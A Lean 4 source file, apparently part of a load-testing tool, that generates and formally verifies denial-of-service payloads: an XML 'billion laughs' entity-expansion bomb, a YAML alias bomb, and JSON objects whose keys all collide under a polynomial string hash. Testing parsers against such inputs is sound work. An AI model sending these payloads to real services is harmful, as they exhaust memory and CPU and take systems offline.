import Std.Data.String.ToNat
import Mathlib.Data.List.Nodup
import Mathlib.Data.Nat.Log
import Mathlib.Data.String.Basic

/-!
# Generated payloads

The expansion bombs define each level from the one below and stop at `levels - 1`, so they expand to
`10 ^ (levels - 1)` copies (`bombs_expand`).  The keys of a collision payload are distinct and share
the polynomial hash whenever the text fits into a string (`hashCollision_iff`).
-/

namespace Loadr.Payload

open List

theorem foldl_push {α : Type*} (f : α → String) (l : List α) (s : String) :
    l.foldl (fun s a => s ++ f a) s = s ++ String.join (l.map f) := by
  induction l generalizing s with
  | nil => simp
  | cons a l ih => simp [ih, String.append_assoc]

/-! ## Expansion bombs -/

def billionLaughs (levels : Nat) : String :=
  let s := "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n"
  let s := s ++ "  <!ENTITY lol0 \"loooooooooool\">\n"
  let s := (List.range' 1 (max levels 1 - 1)).foldl (fun s i =>
    let refs := String.join (List.replicate 10 ("&lol" ++ (i - 1).repr ++ ";"))
    s ++ ("  <!ENTITY lol" ++ i.repr ++ " \"" ++ refs ++ "\">\n")) s
  let top := max levels 1 - 1
  s ++ ("]>\n<lolz>&lol" ++ top.repr ++ ";</lolz>")

def yamlAliasBomb (levels : Nat) : String :=
  let levels := max levels 1
  let s := "a0: &a0 \"lol\"\n"
  (List.range' 1 (levels - 1)).foldl (fun s i =>
    let refs := "*a" ++ (i - 1).repr
    let items := String.intercalate ", " (List.replicate 10 refs)
    s ++ ("a" ++ i.repr ++ ": &a" ++ i.repr ++ " [" ++ items ++ "]\n")) s

inductive Body where
  | text (s : String)
  | refs (names : List String)

def xmlText (defs : List (String × Body)) (top : String) : String :=
  "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n" ++ String.join (defs.map fun d =>
    "  <!ENTITY " ++ d.1 ++ " \"" ++ (match d.2 with
      | .text s => s
      | .refs names => String.join (names.map fun n => "&" ++ n ++ ";")) ++ "\">\n") ++
  "]>\n<lolz>&" ++ top ++ ";</lolz>"

def yamlText (defs : List (String × Body)) : String :=
  String.join (defs.map fun d => d.1 ++ ": &" ++ d.1 ++ " " ++ (match d.2 with
    | .text s => "\"" ++ s ++ "\""
    | .refs names => "[" ++ String.intercalate ", " (names.map ("*" ++ ·)) ++ "]") ++ "\n")

/-- The base strings a body expands to, when the earlier names expand as in `env`. -/
def Body.expand (env : List (String × List String)) : Body → Option (List String)
  | .text s => some [s]
  | .refs names => (names.mapM fun n => env.lookup n).map List.flatten

/-- A name is defined once and refers to earlier names. -/
def expandAll (defs : List (String × Body)) : Option (List (String × List String)) :=
  defs.foldlM (fun env d =>
    if (env.lookup d.1).isSome then none
    else (d.2.expand env).map fun xs => (d.1, xs) :: env) []

def expansion (defs : List (String × Body)) (name : String) : Option (List String) :=
  (expandAll defs).bind (·.lookup name)

/-- Every level refers to the one below ten times. -/
def tenfold (stem base : String) (levels : Nat) : List (String × Body) :=
  (List.range levels).map fun
    | 0 => (stem ++ Nat.repr 0, .text base)
    | i + 1 => (stem ++ (i + 1).repr, .refs (List.replicate 10 (stem ++ i.repr)))

section Expansion

variable (stem base : String)

theorem level_inj {i j : Nat} : stem ++ i.repr = stem ++ j.repr ↔ i = j := by
  rw [String.append_right_inj, Nat.repr_inj]

/-- The expansions of the first levels, the last one first. -/
def powers (levels : Nat) : List (String × List String) :=
  (List.range levels).reverse.map fun i => (stem ++ i.repr, List.replicate (10 ^ i) base)

theorem powers_succ (l : Nat) : powers stem base (l + 1) =
    (stem ++ l.repr, replicate (10 ^ l) base) :: powers stem base l := by
  simp [powers, range_succ]

theorem lookup_powers (l j : Nat) : (powers stem base l).lookup (stem ++ j.repr) =
    if j < l then some (replicate (10 ^ j) base) else none := by
  induction l with
  | zero => rfl
  | succ l ih =>
    rw [powers_succ, lookup_cons, ih]
    by_cases h : j = l
    · simp [h]
    · have : ¬ stem ++ j.repr = stem ++ l.repr := fun e => h ((level_inj stem).1 e)
      grind

theorem expandAll_tenfold (l : Nat) :
    expandAll (tenfold stem base l) = some (powers stem base l) := by
  induction l with
  | zero => rfl
  | succ l ih =>
    rw [tenfold, range_succ, map_append, expandAll, foldlM_append]
    change (expandAll (tenfold stem base l)).bind _ = _
    rw [ih, powers_succ]
    cases l with
    | zero => rfl
    | succ l =>
      simp only [foldlM_cons, foldlM_nil, map_cons, map_nil, Body.expand]
      simp [replicate_succ, lookup_powers]
      omega

theorem expansion_tenfold {l j : Nat} (h : j < l) :
    expansion (tenfold stem base l) (stem ++ j.repr) = some (replicate (10 ^ j) base) := by
  rw [expansion, expandAll_tenfold, Option.bind_some, lookup_powers, if_pos h]

end Expansion

/-! ### The generated texts -/

theorem tenfold_succ (stem base : String) (l : Nat) : tenfold stem base (l + 1) =
    (stem ++ Nat.repr 0, .text base) :: (range' 1 l).map fun i =>
      (stem ++ i.repr, .refs (replicate 10 (stem ++ (i - 1).repr))) := by
  rw [tenfold, range_eq_range', range'_succ, map_cons]
  refine congrArg _ (map_congr_left fun i hi => ?_)
  obtain ⟨i, rfl⟩ := Nat.exists_eq_add_of_le' (left_le_of_mem_range' hi)
  rfl

theorem billionLaughs_eq (l : Nat) : billionLaughs (l + 1) =
    xmlText (tenfold "lol" "loooooooooool" (l + 1)) ("lol" ++ l.repr) := by
  have hl : max (l + 1) 1 - 1 = l := by omega
  have h₀ : "  <!ENTITY lol0 \"loooooooooool\">\n" =
      "  <!ENTITY " ++ ("lol" ++ Nat.repr 0) ++ " \"" ++ "loooooooooool" ++ "\">\n" := by
    decide +kernel
  have h₁ : "  <!ENTITY lol" = "  <!ENTITY " ++ "lol" := by decide +kernel
  have h₂ : "&lol" = "&" ++ "lol" := by decide +kernel
  have h₃ : "]>\n<lolz>&lol" = "]>\n<lolz>&" ++ "lol" := by decide +kernel
  dsimp only [billionLaughs, xmlText, -String.reduceAppend]
  rw [hl, tenfold_succ, foldl_push, map_cons, map_map, String.join_cons]
  simp only [String.append_assoc, map_replicate, Function.comp_def, -String.reduceAppend]
  simp only [h₀, h₁, h₂, h₃, String.append_assoc, -String.reduceAppend]

theorem yamlAliasBomb_eq (l : Nat) :
    yamlAliasBomb (l + 1) = yamlText (tenfold "a" "lol" (l + 1)) := by
  have hl : max (l + 1) 1 - 1 = l := by omega
  have h₀ : "a0: &a0 \"lol\"\n" =
      "a" ++ Nat.repr 0 ++ ": &" ++ ("a" ++ Nat.repr 0) ++ " " ++ ("\"" ++ "lol" ++ "\"") ++
        "\n" := by
    decide +kernel
  have h₁ : ": &a" = ": &" ++ "a" := by decide +kernel
  have h₂ : "*a" = "*" ++ "a" := by decide +kernel
  have h₃ : " [" = " " ++ "[" := by decide +kernel
  have h₄ : "]\n" = "]" ++ "\n" := by decide +kernel
  simp only [yamlAliasBomb, hl, foldl_push, yamlText, tenfold_succ, map_cons, map_map,
    map_replicate, String.join_cons, Function.comp_def, String.append_assoc, h₀, h₁, h₂, h₃, h₄,
    -String.reduceAppend]

/-- The documentation counts one level more, a factor of ten at every number of levels. -/
theorem expansion_tenfold_ne (name base : String) (l : Nat) :
    expansion (tenfold name base (l + 1)) (name ++ l.repr) ≠
      some (replicate (10 ^ (l + 1)) base) := by
  rw [expansion_tenfold _ _ l.lt_succ_self]
  intro h
  have hl : 10 ^ l = 10 ^ (l + 1) := by simpa using congrArg (Option.map length) h
  exact (Nat.pow_lt_pow_right (by decide) l.lt_succ_self).ne hl

theorem bombs_expand (levels : Nat) (h : 1 ≤ levels) :
    (billionLaughs levels =
        xmlText (tenfold "lol" "loooooooooool" levels) ("lol" ++ (levels - 1).repr) ∧
      expansion (tenfold "lol" "loooooooooool" levels) ("lol" ++ (levels - 1).repr) =
        some (List.replicate (10 ^ (levels - 1)) "loooooooooool") ∧
      expansion (tenfold "lol" "loooooooooool" levels) ("lol" ++ (levels - 1).repr) ≠
        some (List.replicate (10 ^ levels) "loooooooooool")) ∧
    (yamlAliasBomb levels = yamlText (tenfold "a" "lol" levels) ∧
      expansion (tenfold "a" "lol" levels) ("a" ++ (levels - 1).repr) =
        some (List.replicate (10 ^ (levels - 1)) "lol") ∧
      expansion (tenfold "a" "lol" levels) ("a" ++ (levels - 1).repr) ≠
        some (List.replicate (10 ^ levels) "lol")) := by
  obtain ⟨l, rfl⟩ := Nat.exists_eq_add_of_le' h
  exact ⟨⟨billionLaughs_eq l, expansion_tenfold _ _ l.lt_succ_self, expansion_tenfold_ne _ _ l⟩,
    yamlAliasBomb_eq l, expansion_tenfold _ _ l.lt_succ_self, expansion_tenfold_ne _ _ l⟩

theorem bombs_of_two_levels : yamlAliasBomb 2 = yamlText (tenfold "a" "lol" 2) ∧
    expansion (tenfold "a" "lol" 2) "a1" = some (List.replicate 10 "lol") ∧
    expansion (tenfold "a" "lol" 2) "a1" ≠ some (List.replicate 100 "lol") :=
  (bombs_expand 2 (by decide)).2

/-- One level is the base string alone. -/
theorem one_level_is_no_bomb :
    billionLaughs 1 = xmlText (tenfold "lol" "loooooooooool" 1) "lol0" ∧
    expansion (tenfold "lol" "loooooooooool" 1) "lol0" = some ["loooooooooool"] ∧
    yamlAliasBomb 1 = yamlText (tenfold "a" "lol" 1) ∧
    expansion (tenfold "a" "lol" 1) "a0" = some ["lol"] := by
  decide +kernel

/-! ## Colliding keys -/

/-- The shift overflows at the width of a word. -/
def keyBits (count : Nat) : Option Nat :=
  (List.range 64).find? fun k => count ≤ 2 ^ k

def block (i bit : Nat) : String := if (i >>> bit) &&& 1 = 0 then "Aa" else "BB"

def collisionKey (k i : Nat) : String :=
  (List.range k).reverse.foldl (fun s bit => s ++ block i bit) ""

/-- A string longer than `isize::MAX` bytes cannot be reserved.  Where the product overflows a
word, debug builds panic and in release builds the text itself outgrows the string. -/
def hashCollision (count : Nat) : Option String := do
  let count := max count 1
  let k ← keyBits count
  if count * (2 * k + 8) < 2 ^ 63 then
    let s := (List.range count).foldl (fun s i =>
      let s := if i > 0 then s ++ "," else s
      s ++ ("\"" ++ collisionKey k i ++ "\":1")) "\x7b"
    some (s ++ "\x7d")
  else none

/-- The members of a JSON object whose keys need no escapes and whose values are numbers. -/
inductive Members : List String → String → Prop
  | one {key : String} (hk : key.toList.all Char.isAlphanum) (value : Nat) :
      Members [key] ("\"" ++ key ++ "\":" ++ value.repr)
  | snoc {keys : List String} {text key : String} (h : Members keys text)
      (hk : key.toList.all Char.isAlphanum) (value : Nat) :
      Members (keys ++ [key]) (text ++ "," ++ ("\"" ++ key ++ "\":" ++ value.repr))

def IsObject (keys : List String) (text : String) : Prop :=
  ∃ members, Members keys members ∧ text = "\x7b" ++ members ++ "\x7d"

def polyHash (s : String) : Nat := s.toList.foldl (fun h c => (31 * h + c.toNat) % 2 ^ 32) 0

theorem block_eq (i bit : Nat) : block i bit = if i.testBit bit then "BB" else "Aa" := by
  rw [block, Nat.and_one_is_mod, Nat.testBit_eq_decide_div_mod_eq, Nat.shiftRight_eq_div_pow]
  grind

theorem block_toList (i bit : Nat) :
    (block i bit).toList = if i.testBit bit then ['B', 'B'] else ['A', 'a'] := by
  rw [block_eq]
  split <;> rfl

theorem collisionKey_toList (k i : Nat) : (collisionKey k i).toList =
    (range k).reverse.flatMap fun bit => (block i bit).toList := by
  rw [collisionKey, foldl_push]
  simp [flatMap_def, Function.comp_def]

/-- Both blocks take the hash from `h` to `961 * h + 2112`. -/
theorem polyHash_collisionKey (k i : Nat) : polyHash (collisionKey k i) =
    (range k).reverse.foldl (fun h _ => (961 * h + 2112) % 2 ^ 32) 0 := by
  rw [polyHash, collisionKey_toList, foldl_flatMap]
  refine foldl_ext _ _ _ fun h bit _ => ?_
  rw [block_toList]
  split <;> simp only [foldl_cons, foldl_nil, Char.reduceToNat] <;> omega

theorem collisionKey_alphanum (k i : Nat) : (collisionKey k i).toList.all Char.isAlphanum := by
  rw [collisionKey_toList, all_flatMap, all_eq_true]
  intro bit _
  rw [block_toList]
  split <;> decide

theorem flatMap_inj {α β : Type*} {f g : α → List β} {l : List α}
    (hl : ∀ a ∈ l, (f a).length = (g a).length) (h : l.flatMap f = l.flatMap g) :
    ∀ a ∈ l, f a = g a := by
  induction l with
  | nil => simp
  | cons a l ih =>
    rw [forall_mem_cons] at hl
    obtain ⟨ha, ht⟩ := append_inj h hl.1
    exact forall_mem_cons.2 ⟨ha, ih hl.2 ht⟩

theorem collisionKey_inj {k i j : Nat} (hi : i < 2 ^ k) (hj : j < 2 ^ k)
    (h : collisionKey k i = collisionKey k j) : i = j := by
  have hb := flatMap_inj (fun bit _ => by simp only [block_toList]; split <;> split <;> rfl)
    ((collisionKey_toList k i).symm.trans ((congrArg _ h).trans (collisionKey_toList k j)))
  refine Nat.eq_of_testBit_eq fun bit => ?_
  rcases lt_or_ge bit k with hk | hk
  · have := hb bit (by simpa using hk)
    simp only [block_toList] at this
    grind
  · have h2 : 2 ^ k ≤ 2 ^ bit := Nat.pow_le_pow_right (by decide) hk
    rw [Nat.testBit_lt_two_pow (hi.trans_le h2), Nat.testBit_lt_two_pow (hj.trans_le h2)]

/-- After `n + 1` rounds the text is a brace and as many members. -/
theorem members_range (k n : Nat) : ∃ members,
    Members ((range (n + 1)).map (collisionKey k)) members ∧
    (range (n + 1)).foldl (fun s i =>
      let s := if i > 0 then s ++ "," else s
      s ++ ("\"" ++ collisionKey k i ++ "\":1")) "\x7b" = "\x7b" ++ members := by
  have hv : "\":1" = "\":" ++ Nat.repr 1 := by decide +kernel
  induction n with
  | zero => exact ⟨_, .one (collisionKey_alphanum k 0) 1, by
    simp [range_succ, hv, String.append_assoc]⟩
  | succ n ih =>
    obtain ⟨members, hm, hs⟩ := ih
    rw [range_succ, map_append, foldl_append, hs]
    exact ⟨_, hm.snoc (collisionKey_alphanum k (n + 1)) 1, by simp [hv, String.append_assoc]⟩

theorem keyBits_eq {n : Nat} (h : n ≤ 2 ^ 63) : keyBits n = some (Nat.clog 2 n) := by
  rw [keyBits, find?_range_eq_some]
  refine ⟨decide_eq_true (Nat.le_pow_clog (by decide) n), ?_, fun j hj => ?_⟩
  · exact mem_range.2 (Nat.lt_succ_of_le (Nat.clog_le_of_le_pow h))
  · simpa using (Nat.lt_clog_iff_pow_lt (by decide)).1 hj

theorem hashCollision_iff (n : Nat) :
    (∃ text keys, hashCollision n = some text ∧ IsObject keys text ∧ keys.length = max n 1 ∧
      keys.Nodup ∧ ∃ h, ∀ key ∈ keys, polyHash key = h) ↔
    max n 1 * (2 * Nat.clog 2 (max n 1) + 8) < 2 ^ 63 := by
  constructor
  · rintro ⟨text, -, h, -⟩
    by_contra hc
    rcases le_or_gt (max n 1) (2 ^ 63) with hn | hn
    · simp [hashCollision, keyBits_eq hn] at h
      exact hc h.1
    · have hk : keyBits (max n 1) = none := by
        refine find?_eq_none.2 fun k hk => ?_
        have : 2 ^ k ≤ 2 ^ 63 := Nat.pow_le_pow_right (by decide) (by simp at hk; omega)
        simpa using this.trans_lt hn
      simp [hashCollision, hk] at h
  · intro hf
    have hn : max n 1 ≤ 2 ^ 63 := (Nat.le_mul_of_pos_right _ (by omega)).trans hf.le
    obtain ⟨m, hm⟩ : ∃ m, max n 1 = m + 1 := ⟨max n 1 - 1, by omega⟩
    have hp := Nat.le_pow_clog (b := 2) (by decide) (max n 1)
    have hk := keyBits_eq hn
    rw [hm] at hf hp hk
    obtain ⟨members, ho, hs⟩ := members_range (Nat.clog 2 (m + 1)) m
    have ht : hashCollision n = some ("\x7b" ++ members ++ "\x7d") := by
      simp only [hashCollision, hm, hk, Option.bind_eq_bind, Option.bind_some, hs]
      exact if_pos hf
    refine ⟨_, _, ht, ⟨members, ho, rfl⟩, by simp [hm], ?_,
      polyHash (collisionKey (Nat.clog 2 (m + 1)) 0), fun key hkey => ?_⟩
    · refine Nodup.map_on (fun i hi j hj => collisionKey_inj ?_ ?_) nodup_range
      · exact (mem_range.1 hi).trans_le hp
      · exact (mem_range.1 hj).trans_le hp
    · obtain ⟨i, -, rfl⟩ := mem_map.1 hkey
      rw [polyHash_collisionKey, polyHash_collisionKey]

/-- A text of two to the fifty-eight keys does not fit into a string. -/
theorem hashCollision_too_long : 2 ^ 58 ≤ 2 ^ 63 ∧ hashCollision (2 ^ 58) = none := by
  decide +kernel

end Loadr.Payload
